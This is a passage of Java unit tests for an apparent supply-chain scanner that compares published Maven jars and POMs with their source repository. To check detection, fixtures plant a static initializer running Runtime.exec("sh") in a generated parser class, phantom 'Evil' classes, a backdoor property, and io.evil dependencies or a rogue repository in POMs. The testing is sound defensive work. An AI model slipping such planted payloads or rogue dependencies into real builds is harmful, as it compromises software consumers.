            + "package org.acme.parser;\n\npublic final class Parser {\n}\nPARSER_END(Parser)\n\n"
            + "TOKEN : { < NUMBER: (<#DIGIT>)+ > | < #DIGIT: [\"0\"-\"9\"] > }\n\n"
            + "void Script() #void : {} { IfStatement() | Additive() }\n"
            + "void IfStatement() : {} { \"if\" Additive() }\n"
            + "void Additive() #void : {} { Identifier() ( \"+\" Identifier() #AddNode(2) )* }\n"
            + "void Identifier() : {} { <NUMBER> }\n";

    private static String javaccPom(boolean runsJavacc) {
        return "<project><groupId>org.acme</groupId><artifactId>acme-core</artifactId><version>3.0.0</version>\n<build><plugins>"
                + (runsJavacc ? "<plugin><groupId>org.codehaus.mojo</groupId><artifactId>javacc-maven-plugin</artifactId>"
                + "<version>2.6</version><executions><execution><id>jjtree</id><configuration>"
                + "<sourceDirectory>${basedir}/src/main/java/org/acme/parser</sourceDirectory>"
                + "<outputDirectory>${project.build.directory}/generated-sources/java</outputDirectory>"
                + "</configuration><goals><goal>jjtree-javacc</goal></goals></execution></executions></plugin>" : "")
                + "</plugins></build></project>\n";
    }

    /**
     * What JJTree then JavaCC write into target/generated-sources/java for {@link #GRAMMAR} (trimmed to compile), and the
     * hand-written node; {@code tokenManager} is the body of ParserTokenManager.
     */
    private static Map<String, String> javaccSources(String tokenManager) {
        String pkg = "package org.acme.parser;\n";
        Map<String, String> src = new java.util.TreeMap<>();
        src.put("org/acme/parser/Node.java", pkg + "public interface Node {}\n");
        src.put("org/acme/parser/SimpleNode.java", pkg + "public class SimpleNode implements Node {\n"
                + "  protected int id;\n  public SimpleNode(int i) { id = i; }\n}\n");
        for (String n : List.of("ASTIfStatement", "ASTAddNode", "ASTIdentifier")) {
            src.put("org/acme/parser/" + n + ".java", pkg + "public class " + n + " extends SimpleNode {\n"
                    + "  public " + n + "(int id) { super(id); }\n}\n");
        }
        src.put("org/acme/parser/ParserTreeConstants.java", pkg + "public interface ParserTreeConstants {\n"
                + "  int JJTIFSTATEMENT = 0;\n  int JJTADDNODE = 1;\n  int JJTIDENTIFIER = 2;\n}\n");
        src.put("org/acme/parser/JJTParserState.java", pkg + "public class JJTParserState {\n"
                + "  private java.util.List<Node> nodes = new java.util.ArrayList<>();\n}\n");
        src.put("org/acme/parser/ParserConstants.java", pkg + "public interface ParserConstants {\n  int EOF = 0;\n"
                + "  int NUMBER = 1;\n}\n");
        src.put("org/acme/parser/Token.java", pkg + "public class Token { public int kind; public Token next; }\n");
        src.put("org/acme/parser/ParseException.java", pkg + "public class ParseException extends Exception {}\n");
        src.put("org/acme/parser/TokenMgrError.java", pkg + "public class TokenMgrError extends Error {}\n");
        src.put("org/acme/parser/SimpleCharStream.java", pkg + "public class SimpleCharStream { int bufpos = -1; }\n");
        src.put("org/acme/parser/ParserTokenManager.java", pkg + "public class ParserTokenManager implements ParserConstants {\n"
                + tokenManager + "}\n");
        src.put("org/acme/parser/Parser.java", pkg + "public final class Parser implements ParserTreeConstants, ParserConstants {\n"
                + "  protected JJTParserState jjtree = new JJTParserState();\n"
                + "  static private final class LookaheadSuccess extends Error {}\n"
                + "  private final LookaheadSuccess jj_ls = new LookaheadSuccess();\n}\n");
        return src;
    }

    private static SortedMap<String, byte[]> javaccTree(boolean runsJavacc) {
        return files("pom.xml", javaccPom(runsJavacc),
                "src/main/java/org/acme/parser/Parser.jjt", GRAMMAR,
                "src/main/java/org/acme/parser/ASTIdentifier.java", "package org.acme.parser;\n"
                        + "public class ASTIdentifier extends SimpleNode {\n  public ASTIdentifier(int id) { super(id); }\n}\n");
    }

    @Test
    void classesJjtreeAndJavaccGenerateFromTheModulesGrammarAreBuildOutput() throws Exception {
        Map<String, String> sources = javaccSources("  public Token getNextToken() { return new Token(); }\n");
        Map<String, byte[]> jar = new LinkedHashMap<>(LocalMaven.javac(sources, "--release", "8"));
        Map<String, byte[]> sourcesJar = new LinkedHashMap<>();
        sources.forEach((p, t) -> sourcesJar.put(p, utf8(t)));
        ReleaseReport r = scanPublished(javaccTree(true), "3.0.0", Map.of(".pom", utf8(javaccPom(true)),
                ".jar", LocalMaven.jar(jar), "-sources.jar", LocalMaven.jar(sourcesJar)));
        ArtifactReport a = artifact(r, ".jar");
        assertTrue(jar.containsKey("org/acme/parser/Parser$LookaheadSuccess.class"), jar.keySet().toString());
        for (String p : jar.keySet()) {
            FileDivergence f = row(a, p);
            if (p.equals("org/acme/parser/ASTIdentifier.class")) {
                assertEquals(FileStatus.GENERATED, f.status(), p); // compiled from the hand-written node
                continue;
            }
            assertEquals(FileStatus.BUILD_OUTPUT, f.status(), p);
            assertEquals(MavenGeneratedFiles.BUILD_JAVACC, f.ruleId(), p);
            assertFalse(f.highRisk(), p);
        }
        assertEquals(Verdict.EXPLAINED, a.verdict(), a.reason().orElse(""));
        ArtifactReport s = artifact(r, "-sources.jar");
        assertEquals(MavenGeneratedFiles.BUILD_JAVACC, row(s, "org/acme/parser/ASTAddNode.java").ruleId());
        assertEquals(MavenGeneratedFiles.BUILD_JAVACC, row(s, "org/acme/parser/JJTParserState.java").ruleId());
        assertEquals(FileStatus.MATCH, row(s, "org/acme/parser/ASTIdentifier.java").status());
        assertEquals(Verdict.EXPLAINED, s.verdict(), s.reason().orElse(""));
    }

    @Test
    void aClassJavaccDoesNotGenerateOrAGeneratedNameCarryingAPayloadStaysVisible() throws Exception {
        Map<String, String> sources = javaccSources("  static { try { Runtime.getRuntime().exec(\"sh\"); }"
                + " catch (java.io.IOException e) { } }\n");
        // a #void production makes no node, and a class the grammar never names is no JavaCC output
        sources.put("org/acme/parser/ASTScript.java", "package org.acme.parser;\npublic class ASTScript {}\n");
        sources.put("org/acme/parser/Evil.java", "package org.acme.parser;\npublic class Evil {}\n");
        Map<String, byte[]> jar = LocalMaven.javac(sources, "--release", "8");
        ArtifactReport a = artifact(scanJar(javaccTree(true), "3.0.0", jar), ".jar");
        FileDivergence tm = row(a, "org/acme/parser/ParserTokenManager.class");
        assertEquals(FileStatus.BUILD_OUTPUT, tm.status());
        assertEquals(MavenGeneratedFiles.BUILD_JAVACC, tm.ruleId());
        assertTrue(tm.highRisk(), "process execution in a generated name is scanned whole");
        for (String p : List.of("org/acme/parser/ASTScript.class", "org/acme/parser/Evil.class")) {
            assertEquals(FileStatus.PHANTOM, row(a, p).status(), p);
            assertEquals(MavenGeneratedFiles.CLASS_WITHOUT_SOURCE, row(a, p).ruleId(), p);
        }
        assertEquals(Verdict.HIGH_RISK, a.verdict());
        // without the plugin in the POM, nothing writes parser classes: the same jar has classes without source
        ArtifactReport plain = artifact(scanPublished(java.nio.file.Files.createTempDirectory(dir, "plain"),
                javaccTree(false), "3.0.0", Map.of(".pom", utf8(javaccPom(false)), ".jar",
                        LocalMaven.jar(LocalMaven.javac(javaccSources(""), "--release", "8")))), ".jar");
        assertEquals(FileStatus.PHANTOM, row(plain, "org/acme/parser/ASTAddNode.class").status());
        assertEquals(MavenGeneratedFiles.CLASS_WITHOUT_SOURCE, row(plain, "org/acme/parser/ASTAddNode.class").ruleId());
    }

    private static String bundlePom(String instructions) {
        return "<project><groupId>org.acme</groupId><artifactId>acme-core</artifactId><version>3.0.0</version>"
                + "<packaging>bundle</packaging>\n<build><sourceDirectory>src</sourceDirectory><plugins><plugin>"
                + "<groupId>org.apache.felix</groupId><artifactId>maven-bundle-plugin</artifactId><extensions>true</extensions>"
                + "<configuration><instructions><Bundle-SymbolicName>org.acme.core</Bundle-SymbolicName>" + instructions
                + "</instructions></configuration></plugin></plugins></build></project>\n";
    }

    /**
     * A bundle as maven-bundle-plugin builds it with bnd's {@code -sources: true}: the compiled classes and every file of
     * the source path under OSGI-OPT/src/, plus {@code extra} entries.
     */
    private ArtifactReport scanBundleWithSources(String instructions, Map<String, String> extra) throws Exception {
        String widget = "package org.acme;\npublic class Widget {\n  public String name() { return \"w\"; }\n}\n";
        String messages = "greeting=hello\n";
        SortedMap<String, byte[]> tree = files("pom.xml", bundlePom(instructions), "src/org/acme/Widget.java", widget,
                "src/org/acme/Messages.properties", messages);
        Map<String, byte[]> jar = new LinkedHashMap<>(LocalMaven.javac(Map.of("org/acme/Widget.java", widget)));
        jar.put("org/acme/Messages.properties", utf8(messages));
        jar.put("OSGI-OPT/src/org/acme/Widget.java", utf8(widget));
        jar.put("OSGI-OPT/src/org/acme/Messages.properties", utf8(messages));
        extra.forEach((p, t) -> jar.put(p, utf8(t)));
        return artifact(scanJar(tree, "3.0.0", jar), ".jar");
    }

    @Test
    void theSourcesBndCopiesIntoOsgiOptAreComparedWithTheSourceRoot() throws Exception {
        ArtifactReport a = scanBundleWithSources("<_sources>true</_sources>", Map.of());
        for (String p : List.of("OSGI-OPT/src/org/acme/Widget.java", "OSGI-OPT/src/org/acme/Messages.properties")) {
            FileDivergence f = row(a, p);
            assertEquals(FileStatus.MATCH, f.status(), p);
            assertEquals("src/" + p.substring("OSGI-OPT/src/".length()), f.sourcePath().orElseThrow(), p);
        }
        assertTrue(a.verdict() == Verdict.CLEAN || a.verdict() == Verdict.EXPLAINED, a.reason().orElse(""));
    }

    @Test
    void anOsgiOptSourceTheSourceRootDoesNotHoldOrThatDiffersStaysVisible() throws Exception {
        ArtifactReport a = scanBundleWithSources("<_sources>true</_sources>", Map.of(
                "OSGI-OPT/src/org/acme/Loader.java", "package org.acme;\nclass Loader {}\n",
                "OSGI-OPT/src/org/acme/Messages.properties", "greeting=hello\nbackdoor=1\n"));
        assertEquals(FileStatus.PHANTOM, row(a, "OSGI-OPT/src/org/acme/Loader.java").status());
        assertEquals(FileStatus.MODIFIED, row(a, "OSGI-OPT/src/org/acme/Messages.properties").status());
        assertEquals(Verdict.DIVERGENT, a.verdict());
        // without -sources, bnd copies nothing there: the same copy is no packaging of the source root
        ArtifactReport plain = artifact(scanPublished(java.nio.file.Files.createTempDirectory(dir, "nosrc"),
                files("pom.xml", bundlePom(""), "src/org/acme/Widget.java",
                        "package org.acme;\npublic class Widget {}\n"), "3.0.0",
                Map.of(".pom", utf8(bundlePom("")), ".jar", LocalMaven.jar(Map.of("OSGI-OPT/src/org/acme/Widget.java",
                        utf8("package org.acme;\npublic class Widget {}\n"))))), ".jar");
        assertTrue(row(plain, "OSGI-OPT/src/org/acme/Widget.java").status() != FileStatus.MATCH,
                row(plain, "OSGI-OPT/src/org/acme/Widget.java").toString());
    }

    private static final String PROJECT_XML = "<?xml version=\"1.0\"?>\n<project>\n  <pomVersion>3</pomVersion>\n"
            + "  <id>acme-core</id>\n  <groupId>org.acme</groupId>\n  <currentVersion>1.2</currentVersion>\n"
            + "  <dependencies>\n    <dependency>\n      <groupId>junit</groupId>\n      <artifactId>junit</artifactId>\n"
            + "      <version>3.8.1</version>\n      <properties><scope>test</scope></properties>\n    </dependency>\n"
            + "    <dependency>\n      <groupId>maven-plugins</groupId>\n      <artifactId>maven-cobertura-plugin</artifactId>\n"
            + "      <version>1.1.1</version>\n      <type>plugin</type>\n    </dependency>\n  </dependencies>\n</project>\n";

    /** What Maven 1's POM conversion writes (commons-io 1.2, commons-cli 1.1, joda-time 1.6 on Central). */
    private static String generatedPom(String extra) {
        return "<?xml version=\"1.0\" encoding=\"UTF-8\"?><project>\n  <modelVersion>4.0.0</modelVersion>\n"
                + "  <groupId>org.acme</groupId>\n  <artifactId>acme-core</artifactId>\n  <name>Acme</name>\n"
                + "  <version>1.2</version>\n  <developers><developer><id>jdoe</id></developer></developers>\n"
                + "  <dependencies>\n    <dependency>\n      <groupId>junit</groupId>\n      <artifactId>junit</artifactId>\n"
                + "      <version>3.8.1</version>\n      <scope>test</scope>\n    </dependency>\n" + extra
                + "  </dependencies>\n  <build><sourceDirectory>src/java</sourceDirectory><plugins>\n"
                + "    <plugin><artifactId>maven-surefire-plugin</artifactId><configuration><includes>"
                + "<include>**/*Test*</include></includes></configuration></plugin>\n"
                + "    <plugin><groupId>maven-plugins</groupId><artifactId>maven-cobertura-plugin</artifactId>"
                + "<version>1.1.1</version></plugin>\n  </plugins></build>\n"
                + "  <distributionManagement><status>converted</status></distributionManagement>\n</project>\n";
    }

    private FileDivergence scanPom(String pom) throws Exception {
        return scanPom(pom, PROJECT_XML);
    }

    private FileDivergence scanPom(String pom, String projectXml) throws Exception {
        return scanPom(pom, projectXml, null);
    }

    private FileDivergence scanPom(String pom, String projectXml, String sourcePom) throws Exception {
        SortedMap<String, byte[]> tree = files("project.xml", projectXml,
                "src/java/org/acme/Widget.java", "package org.acme;\npublic class Widget {}\n");
        if (sourcePom != null) {
            tree.put("pom.xml", utf8(sourcePom));
        }
        return scanPomOf(tree, pom);
    }

    /** The POM row of release 1.2 of org.acme:acme-core, tagged v1.2 on {@code tree}, with {@code pom} published. */
    private FileDivergence scanPomOf(SortedMap<String, byte[]> tree, String pom) throws Exception {
        return scanPomOf(tree, pom, Map.of());
    }

    /** As above, with other POMs the registry holds (path under the repository root → text). */
    private FileDivergence scanPomOf(SortedMap<String, byte[]> tree, String pom, Map<String, String> registry)
            throws Exception {
        Path world = java.nio.file.Files.createTempDirectory(dir, "world");
        for (Map.Entry<String, String> e : registry.entrySet()) {
            Path f = world.resolve("m2").resolve(e.getKey());
            java.nio.file.Files.createDirectories(f.getParent());
            java.nio.file.Files.writeString(f, e.getValue());
        }
        try (GitHistoryBuilder git = GitHistoryBuilder.init(world.resolve("repo"))) {
            git.commit(tree, "1.2", Instant.parse("2006-01-01T00:00:00Z"));
            git.tag("v1.2", true);
        }
        try (LocalMaven repo = new LocalMaven(world.resolve("m2"), "org.acme", "acme-core")) {
            repo.metadata(List.of("1.2"));
            repo.file("1.2", ".pom", utf8(pom), null);
            MavenSupport support = new MavenSupport(repo.baseUrl(), ScanWorld.fetcher());
            Release r = support.registry().releases(PackageId.parse("pkg:maven/org.acme/acme-core")).get(0);
            ReleaseReport report = ScanWorld.scanner(support, world).scan(r, Optional.of(world.resolve("repo").toString()));
            assertEquals(RefMethod.TAG, report.ref().method());
            return row(artifact(report, ".pom"), "pom.xml");
        }
    }

    private FileDivergence scanDeployPom(String pom) throws Exception {
        // an Ant build (junit 3.x-4.x): no pom.xml, no project.xml; the POM on Central was written at deploy
        SortedMap<String, byte[]> tree = files("build.xml", "<project name=\"acme\" default=\"jar\"/>\n",
                "src/org/acme/Widget.java", "package org.acme;\npublic class Widget {}\n");
        return scanPomOf(tree, pom);
    }

    private static final String DEPLOY_POM = "<project>\n  <modelVersion>4.0.0</modelVersion>\n  <groupId>org.acme</groupId>\n"
            + "  <artifactId>acme-core</artifactId>\n  <version>1.2</version>\n  <name>Acme</name>\n"
            + "  <url>http://acme.example</url>\n  <licenses><license><name>CPL</name></license></licenses>\n"
            + "  <scm><url>http://cvs.acme.example/</url></scm>\n  <dependencies>\n  </dependencies>\n</project>\n";

    @Test
    void aDeployTimePomOfAProjectWithoutAnyPomIsGeneratedWhenConsumersResolveNothingFromIt() throws Exception {
        FileDivergence pom = scanDeployPom(DEPLOY_POM);
        assertEquals(FileStatus.GENERATED, pom.status(), pom.toString());
        assertEquals(MavenGeneratedFiles.POM_DEPLOY_DESCRIPTOR, pom.ruleId());
    }

    @Test
    void aDeployTimePomNamingOnlyTestScopedDependenciesIsGenerated() throws Exception {
        // jcommander 1.58-1.72: Kobalt's POMs name testng at test scope, which Maven never resolves for a consumer
        FileDivergence pom = scanDeployPom(DEPLOY_POM.replace("  <dependencies>\n  </dependencies>\n",
                "  <dependencies><dependency><groupId>org.testng</groupId><artifactId>testng</artifactId>"
                        + "<version>6.10</version><scope>test</scope></dependency></dependencies>\n"));
        assertEquals(FileStatus.GENERATED, pom.status(), pom.toString());
        assertEquals(MavenGeneratedFiles.POM_DEPLOY_DESCRIPTOR, pom.ruleId());
    }

    @ParameterizedTest
    @ValueSource(strings = {"dependency", "compile-beside-test", "test-with-system-path", "parent", "repository",
            "relocation", "profile"})
    void aDeployTimePomGivingConsumersAnythingToResolveIsNotExplained(String what) throws Exception {
        String extra = switch (what) {
            case "dependency" -> "<dependencies><dependency><groupId>io.evil</groupId><artifactId>x</artifactId>"
                    + "<version>1</version></dependency></dependencies>";
            case "compile-beside-test" -> "<dependencies><dependency><groupId>org.testng</groupId><artifactId>testng"
                    + "</artifactId><version>6.10</version><scope>test</scope></dependency><dependency><groupId>io.evil"
                    + "</groupId><artifactId>x</artifactId><version>1</version><scope>runtime</scope></dependency></dependencies>";
            case "test-with-system-path" -> "<dependencies><dependency><groupId>io.evil</groupId><artifactId>x</artifactId>"
                    + "<version>1</version><scope>test</scope><systemPath>/tmp/x.jar</systemPath></dependency></dependencies>";
            case "parent" -> "<parent><groupId>io.evil</groupId><artifactId>base</artifactId><version>1</version></parent>";
            case "repository" -> "<repositories><repository><id>x</id><url>https://repo.evil.example</url></repository>"
                    + "</repositories>";
            case "relocation" -> "<distributionManagement><relocation><groupId>io.evil</groupId></relocation>"
                    + "</distributionManagement>";
            default -> "<profiles><profile><id>p</id></profile></profiles>";
        };
        FileDivergence pom = scanDeployPom(DEPLOY_POM.replace("  <dependencies>\n  </dependencies>\n", extra + "\n"));
        assertFalse(pom.status() == FileStatus.GENERATED || pom.status() == FileStatus.MATCH_NORMALIZED, pom.toString());
    }

    @Test
    void aPomArtifactIsComparedWithThePomThatDeclaresItsArtifactIdNotTheParentAtTheRoot() throws Exception {
        // objenesis 1.x: the root pom.xml is objenesis-parent, main/pom.xml is objenesis
        String module = "<project>\n  <modelVersion>4.0.0</modelVersion>\n  <parent>\n    <groupId>org.acme</groupId>\n"
                + "    <artifactId>acme-parent</artifactId>\n    <version>1.2</version>\n  </parent>\n"
                + "  <artifactId>acme-core</artifactId>\n  <dependencies />\n</project>\n";
        SortedMap<String, byte[]> tree = files("pom.xml", "<project>\n  <modelVersion>4.0.0</modelVersion>\n"
                        + "  <groupId>org.acme</groupId>\n  <artifactId>acme-parent</artifactId>\n  <version>1.2</version>\n"
                        + "  <packaging>pom</packaging>\n  <modules><module>main</module></modules>\n</project>\n",
                "main/pom.xml", module, "main/src/main/java/org/acme/Widget.java", "package org.acme;\npublic class Widget {}\n");
        FileDivergence pom = scanPomOf(tree, module.replace("\n", "\r\n"));
        assertEquals("main/pom.xml", pom.sourcePath().orElseThrow(), pom.toString());
        assertEquals(FileStatus.MATCH_NORMALIZED, pom.status(), pom.toString());
    }

    @ParameterizedTest
    @ValueSource(strings = {"flattened", "flattened with a dependency"})
    void aPomPublishedWithoutTheSourcesParentRedirectsNothingButWhatItDeclaresStillCounts(String how) throws Exception {
        // objenesis 1.0: Central's POM is the module's, flattened by hand (no parent, the parent's fields inlined)
        String module = "<project>\n  <modelVersion>4.0.0</modelVersion>\n  <parent>\n    <groupId>org.acme</groupId>\n"
                + "    <artifactId>acme-parent</artifactId>\n    <version>1.2</version>\n  </parent>\n"
                + "  <artifactId>acme-core</artifactId>\n  <name>Acme</name>\n  <dependencies/>\n</project>\n";
        SortedMap<String, byte[]> tree = files("pom.xml", module, "src/main/java/org/acme/Widget.java",
                "package org.acme;\npublic class Widget {}\n");
        String flat = "<project>\n  <modelVersion>4.0.0</modelVersion>\n  <groupId>org.acme</groupId>\n"
                + "  <artifactId>acme-core</artifactId>\n  <version>1.2</version>\n  <name>Acme</name>\n  <dependencies>"
                + (how.equals("flattened") ? "" : "<dependency><groupId>io.evil</groupId><artifactId>x</artifactId>"
                + "<version>1</version></dependency>") + "</dependencies>\n</project>\n";
        FileDivergence pom = scanPomOf(tree, flat);
        assertEquals(FileStatus.MODIFIED, pom.status(), pom.toString());
        assertEquals(how.equals("flattened"), !pom.highRisk(), pom.toString());
    }

    /** A Gradle build publishing with maven-publish, beside a stale pom.xml (picocli 4.x keeps one of 4.0.0-alpha-3). */
    private FileDivergence scanGradlePom(String pom, String buildGradle) throws Exception {
        SortedMap<String, byte[]> tree = files("build.gradle", buildGradle,
                "gradle.properties", "groovyVersion=2.4.10\n",
                "settings.gradle", "rootProject.name = 'acme-core'\n",
                "pom.xml", DEPLOY_POM.replace("<name>Acme</name>", "<name>Acme - a stale POM</name>")
                        .replace("<url>http://acme.example</url>", "<url>http://old.acme.example</url>"),
                "src/main/java/org/acme/Widget.java", "package org.acme;\npublic class Widget {}\n");
        return scanPomOf(tree, pom);
    }

    private static final String GRADLE_BUILD = "apply plugin: 'java'\napply plugin: 'maven-publish'\n"
            + "dependencies {\n    compile     'org.codehaus.groovy:groovy-all:2.4.10'\n"
            + "    implementation \"org.fusesource.jansi:jansi:$groovyVersion\"\n"
            + "    testImplementation 'junit:junit:4.12'\n    api project(':acme-util')\n}\n"
            + "publishing { publications { release(MavenPublication) { pom { name = 'Acme' } } } }\n";

    private static String gradlePomWith(String dependency) {
        return DEPLOY_POM.replace("  <dependencies>\n  </dependencies>\n", "  <dependencies>" + dependency
                + "</dependencies>\n");
    }

    private static String dependency(String g, String a, String v, String scope) {
        return "<dependency><groupId>" + g + "</groupId><artifactId>" + a + "</artifactId><version>" + v
                + "</version><scope>" + scope + "</scope></dependency>";
    }

    @Test
    void aPomGradleWritesIsGeneratedWhenEachDependencyIsDeclaredWithItsVersionInTheBuildFiles() throws Exception {
        // picocli: Gradle's maven-publish writes the POM; the committed pom.xml is stale and is not what publishes
        FileDivergence bare = scanGradlePom(DEPLOY_POM, GRADLE_BUILD);
        assertEquals(FileStatus.GENERATED, bare.status(), bare.toString());
        assertEquals(MavenGeneratedFiles.POM_DEPLOY_DESCRIPTOR, bare.ruleId());
        FileDivergence withDeps = scanGradlePom(gradlePomWith(
                dependency("org.codehaus.groovy", "groovy-all", "2.4.10", "runtime")
                        + dependency("org.fusesource.jansi", "jansi", "2.4.10", "compile")
                        + dependency("junit", "junit", "4.12", "test")
                        + dependency("org.acme", "acme-util", "1.2", "compile")), GRADLE_BUILD);
        assertEquals(FileStatus.GENERATED, withDeps.status(), withDeps.toString());
        assertTrue(withDeps.detail().orElse("").contains("maven-publish (build.gradle)"), withDeps.toString());
    }

    @ParameterizedTest
    @ValueSource(strings = {"undeclared", "other-version", "test-only-in-build", "classifier", "module-other-group",
            "module-other-version", "no-publishing"})
    void aPomGradleWritesIsNotExplainedBeyondWhatTheBuildFilesDeclare(String what) throws Exception {
        String build = GRADLE_BUILD;
        String dep = switch (what) {
            case "undeclared" -> dependency("io.evil", "x", "1", "runtime");
            case "other-version" -> dependency("org.codehaus.groovy", "groovy-all", "2.4.11", "runtime");
            case "test-only-in-build" -> dependency("junit", "junit", "4.12", "compile");
            case "module-other-group" -> dependency("io.evil", "acme-util", "1.2", "compile");
            case "module-other-version" -> dependency("org.acme", "acme-util", "1.3", "compile");
            case "classifier" -> "<dependency><groupId>org.codehaus.groovy</groupId><artifactId>groovy-all</artifactId>"
                    + "<version>2.4.10</version><classifier>indy</classifier><scope>runtime</scope></dependency>";
            default -> {
                build = GRADLE_BUILD.replace("apply plugin: 'maven-publish'\n", "").replace("MavenPublication", "X");
                yield dependency("org.codehaus.groovy", "groovy-all", "2.4.10", "runtime");
            }
        };
        FileDivergence pom = scanGradlePom(gradlePomWith(dep), build);
        assertFalse(pom.status() == FileStatus.GENERATED || pom.status() == FileStatus.MATCH_NORMALIZED, pom.toString());
    }

    @Test
    void thePomGeneratedFromAMaven1ProjectXmlIsGeneratedWhenItsDependenciesAreTheProjectXmls() throws Exception {
        FileDivergence pom = scanPom(generatedPom(""));
        assertEquals(FileStatus.GENERATED, pom.status());
        assertEquals(MavenGeneratedFiles.POM_FROM_PROJECT_XML, pom.ruleId());
    }

    @Test
    void aProjectXmlWithAnInternalDtdAndLegacyGroupColonArtifactIdsIsReadAsMaven1ReadIt() throws Exception {
        // commons-configuration 1.0/1.1: <!DOCTYPE project [<!ENTITY ouml "&#246;">]>, <id>mockobjects:mockobjects-core</id>
        String xml = PROJECT_XML.replace("<?xml version=\"1.0\"?>\n<project>",
                "<?xml version=\"1.0\"?>\n<!DOCTYPE project [\n  <!ENTITY ouml \"&#246;\">\n]>\n<project>\n  <name>J&ouml;rg</name>")
                .replace("  </dependencies>\n</project>", "    <dependency>\n      <id>mockobjects:mockobjects-core</id>\n"
                        + "      <version>0.09</version>\n    </dependency>\n    <dependency>\n      <id>ant+optional</id>\n"
                        + "      <version>1.5.1</version>\n    </dependency>\n  </dependencies>\n</project>");
        String mock = "    <dependency>\n      <groupId>mockobjects</groupId>\n      <artifactId>mockobjects-core</artifactId>\n"
                + "      <version>0.09</version>\n    </dependency>\n    <dependency>\n      <groupId>ant</groupId>\n"
                + "      <artifactId>ant-optional</artifactId>\n      <version>1.5.1</version>\n    </dependency>\n";
        FileDivergence pom = scanPom(generatedPom(mock), xml);
        assertEquals(FileStatus.GENERATED, pom.status(), pom.toString());
        assertEquals(MavenGeneratedFiles.POM_FROM_PROJECT_XML, pom.ruleId());
    }

    @Test
    void aLegacyIdNamesItsOwnGroupSoAnotherGroupInThePomIsNew() throws Exception {
        String xml = PROJECT_XML.replace("  </dependencies>\n</project>", "    <dependency>\n      <id>mockobjects:mockobjects-core</id>\n"
                + "      <version>0.09</version>\n    </dependency>\n  </dependencies>\n</project>");
        String other = "    <dependency>\n      <groupId>io.evil</groupId>\n      <artifactId>mockobjects-core</artifactId>\n"
                + "      <version>0.09</version>\n    </dependency>\n";
        FileDivergence pom = scanPom(generatedPom(other), xml);
        assertNotEquals(FileStatus.GENERATED, pom.status(), pom.toString());
        assertTrue(pom.highRisk(), pom.toString());
    }

    @Test
    void theConversionCopiesProjectXmlsCurrentVersionEvenWhenItIsNotTheReleasedOne() throws Exception {
        // commons-dbcp 1.0: deployed as 1.0 from a project.xml still saying 1.0-dev; Central's POM says 1.0-dev
        String devXml = PROJECT_XML.replace("<currentVersion>1.2</currentVersion>", "<currentVersion>1.2-dev</currentVersion>");
        String devPom = generatedPom("").replace("<version>1.2</version>\n  <developers>", "<version>1.2-dev</version>\n  <developers>");
        FileDivergence pom = scanPom(devPom, devXml);
        assertEquals(FileStatus.GENERATED, pom.status(), pom.toString());
        assertEquals(MavenGeneratedFiles.POM_FROM_PROJECT_XML, pom.ruleId());
        // the version excuses no dependency the project.xml lacks
        FileDivergence added = scanPom(devPom.replace("  </dependencies>", "    <dependency>\n      <groupId>org.evil</groupId>\n"
                + "      <artifactId>payload</artifactId>\n      <version>1.0</version>\n    </dependency>\n  </dependencies>"), devXml);
        assertEquals(MavenGeneratedFiles.POM_NEW_DEPENDENCY, added.ruleId());
        assertTrue(added.highRisk());
    }

    @ParameterizedTest
    @ValueSource(strings = {"optional", "compile"})
    void aDependencyTheProjectXmlLacksIsHighRiskOnlyWhenConsumersResolveIt(String how) throws Exception {
        // commons-chain 1.0: Central's POM names javax.portlet:portlet-api, optional, where project.xml says portlet-api
        String extra = "    <dependency>\n      <groupId>javax.portlet</groupId>\n      <artifactId>portlet-api</artifactId>\n"
                + "      <version>1.0</version>\n" + (how.equals("optional") ? "      <optional>true</optional>\n" : "")
                + "    </dependency>\n";
        FileDivergence pom = scanPom(generatedPom(extra));
        assertEquals(MavenGeneratedFiles.POM_NEW_DEPENDENCY, pom.ruleId(), pom.toString());
        assertEquals(how.equals("compile"), pom.highRisk(), pom.toString());
        assertEquals(how.equals("compile"), pom.riskFlags().contains(dev.divergence.model.RiskFlag.NEW_DEPENDENCY));
    }

    @ParameterizedTest
    @ValueSource(strings = {"same", "other version"})
    void aMaven1BetaDependencyWithoutIdIsConvertedToOneNamingNoArtifact(String how) throws Exception {
        // commons-jxpath 1.0: <name>optional</name><type>required</type><jar>...</jar>, converted to a bare <version>
        String xml = PROJECT_XML.replace("  </dependencies>\n</project>", "    <dependency>\n      <name>optional</name>\n"
                + "      <type>required</type>\n      <version>1.4.1</version>\n"
                + "      <jar>jakarta-ant-1.4.1-optional.jar</jar>\n    </dependency>\n  </dependencies>\n</project>");
        String bare = "    <dependency>\n      <version>" + (how.equals("same") ? "1.4.1" : "9.9") + "</version>\n"
                + "    </dependency>\n";
        FileDivergence pom = scanPom(generatedPom(bare), xml);
        if (how.equals("same")) {
            assertEquals(FileStatus.GENERATED, pom.status(), pom.toString());
            assertEquals(MavenGeneratedFiles.POM_FROM_PROJECT_XML, pom.ruleId());
        } else {
            // still a difference, but one naming no artifact: nothing a consumer resolves
            assertEquals(MavenGeneratedFiles.POM_NEW_DEPENDENCY, pom.ruleId(), pom.toString());
            assertFalse(pom.highRisk(), pom.toString());
        }
    }

    /** Central's own jdbc:jdbc:2.0 POM: a relocation to javax.sql:jdbc-stdext:2.0. */
    private static final Map<String, String> JDBC_RELOCATION = Map.of("jdbc/jdbc/2.0/jdbc-2.0.pom",
            "<project><modelVersion>4.0.0</modelVersion><groupId>jdbc</groupId><artifactId>jdbc</artifactId>"
                    + "<version>2.0</version><distributionManagement><relocation><groupId>javax.sql</groupId>"
                    + "<artifactId>jdbc-stdext</artifactId><version>2.0</version></relocation></distributionManagement>"
                    + "</project>\n");

    private FileDivergence scanJdbcPom(String dependency, Map<String, String> registry) throws Exception {
        // commons-dbcp 1.2: project.xml declares <id>jdbc</id> 2.0; Central's POM names what that id relocates to
        String projectXml = PROJECT_XML.replace("  </dependencies>", "    <dependency>\n      <id>jdbc</id>\n"
                + "      <version>2.0</version>\n    </dependency>\n  </dependencies>");
        SortedMap<String, byte[]> tree = files("project.xml", projectXml,
                "src/java/org/acme/Widget.java", "package org.acme;\npublic class Widget {}\n");
        return scanPomOf(tree, generatedPom(dependency), registry);
    }

    @Test
    void aDependencyTheRegistryRelocatesIsTheProjectXmlsWhenTheConversionNamesItsNewCoordinates() throws Exception {
        String stdext = "    <dependency>\n      <groupId>javax.sql</groupId>\n      <artifactId>jdbc-stdext</artifactId>\n"
                + "      <version>2.0</version>\n      <optional>true</optional>\n    </dependency>\n";
        FileDivergence pom = scanJdbcPom(stdext, JDBC_RELOCATION);
        assertEquals(FileStatus.GENERATED, pom.status(), pom.toString());
